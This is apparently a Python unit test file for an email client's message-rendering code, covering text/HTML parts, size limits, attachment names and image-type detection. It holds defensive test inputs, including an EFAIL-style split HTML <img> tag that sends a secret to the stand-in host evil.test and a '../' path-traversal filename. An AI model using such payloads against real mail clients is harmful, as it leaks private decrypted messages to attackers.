from __future__ import annotations

import re

import pytest
from app.mail.types import BodyPart
from app.mime.structure import parse_structure
from app.services.reading import rendering
from app.services.reading.rendering import (
    attachment_id,
    attachment_object,
    attachment_parts,
    picture_type,
    render_body,
    text_parts,
)

from tests.cpu import at_most_cpu_seconds
from tests.unit.api.mail import multipart


def _read(content: bytes) -> tuple[BodyPart, dict[str, bytes]]:
    """The structure, and the encoded bytes of each text part."""
    structure = parse_structure(content).structure
    parts = [part for part in structure.walk() if part.span is not None and part.media_type.startswith("text/")]
    return structure, {part.section: content[part.span[1] : part.span[2]] for part in parts if part.span}


def test_alternatives_give_text_and_html() -> None:
    structure, contents = _read(
        multipart(b"\r\nHello", b"Content-Type: text/html\r\n\r\n<b>Hello</b>", subtype="alternative")
    )

    body = render_body(structure, contents, None)

    assert (body.text, body.html, body.problems) == ("Hello", "<b>Hello</b>", ())


def test_text_is_made_of_html_where_there_is_none() -> None:
    structure, contents = _read(b"Content-Type: text/html\r\n\r\n<p>One<p>Two<script>x</script>")

    body = render_body(structure, contents, None)

    assert body.text.split() == ["One", "Two"]


def test_a_message_of_text_alone_has_no_html() -> None:
    structure, contents = _read(b"Subject: x\r\n\r\nHello")

    assert render_body(structure, contents, None).html is None


def test_parts_are_never_joined_into_one_document() -> None:
    """What one part leaves open ends with it (EFAIL)."""
    structure, contents = _read(
        multipart(
            b'Content-Type: text/html\r\n\r\n<img src="https://evil.test/?',
            b"\r\nsecret",
            b'Content-Type: text/html\r\n\r\n">',
        )
    )

    html = render_body(structure, contents, None).html or ""

    assert "secret" in re.sub("<[^>]*>", "", html)
    assert not re.search("<[^>]*secret", html)


def test_what_was_wrong_is_said() -> None:
    structure, contents = _read(b"Content-Type: text/plain; charset=utf-8\r\n\r\nna\xefve")

    assert any(
        "charset" in problem or "utf-8" in problem for problem in render_body(structure, contents, None).problems
    )


def test_more_text_than_can_be_shown_is_left_out_and_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "TEXT_PART_LIMIT_BYTES", 10)
    monkeypatch.setattr(rendering, "TEXT_LIMIT_BYTES", 15)
    structure, _ = _read(multipart(b"\r\n" + b"x" * 20, b"\r\n12345", b"\r\nlast"))

    wanted = text_parts(structure)

    assert [part.section for part in wanted.parts] == ["1", "2"]
    assert wanted.problems == (
        "part 1: only its first 10 bytes are shown",
        "part 3 and later parts: not shown, the message has too much text",
    )


def test_ten_thousand_parts_are_shown_in_bounded_time() -> None:
    structure, contents = _read(multipart(*[b"\r\nx"] * 9_000))

    with at_most_cpu_seconds(2):
        wanted = text_parts(structure)
        body = render_body(structure, {part.section: contents[part.section] for part in wanted.parts}, None)

    assert len(wanted.parts) == rendering.TEXT_PARTS_LIMIT
    assert body.text.count("x") == rendering.TEXT_PARTS_LIMIT
    assert len(attachment_parts(structure)) <= rendering.ATTACHMENTS_LIMIT


def test_an_attachment_is_told_with_a_safe_name_and_without_brackets() -> None:
    structure, _ = _read(
        multipart(
            b"\r\nx",
            b'Content-Type: image/png; name="../a.png"\r\nContent-ID: <p@x>\r\nContent-Disposition: odd\r\n\r\nPNG',
        )
    )
    (part,) = attachment_parts(structure)

    assert attachment_object("msg_1", part, 3) == {
        "id": attachment_id("msg_1", "2"),
        "part": "2",
        "filename": "a.png",
        "content_type": "image/png",
        "size_bytes": 3,
        "disposition": "inline",
        "content_id": "p@x",
    }


def test_attachment_ids_are_of_one_message_and_part() -> None:
    ids = {attachment_id(message, section) for message in ("msg_1", "msg_2") for section in ("1", "2", "1.1")}

    assert len(ids) == 6
    assert attachment_id("msg_1", "1") in ids
    assert all(len(one) == 28 for one in ids)


@pytest.mark.parametrize(
    ("media_type", "name", "shown_as"),
    [
        ("image/jpg", "a.jpg", "image/jpeg"),
        ("image/pjpeg", "a", "image/jpeg"),
        ("image/x-png", "a", "image/png"),
        ("application/octet-stream", "logo.PNG", "image/png"),
        ("application/octet-stream", "logo.jpg", "image/jpeg"),
        ("application/octet-stream", "logo.svg", None),
        ("image/svg+xml", "a.png", None),
        ("text/html", "a.png", None),
    ],
)
def test_a_picture_is_known_by_the_names_that_senders_give_it(media_type: str, name: str, shown_as: str | None) -> None:
    assert picture_type(BodyPart("2", media_type, params=(("name", name),))) == shown_as
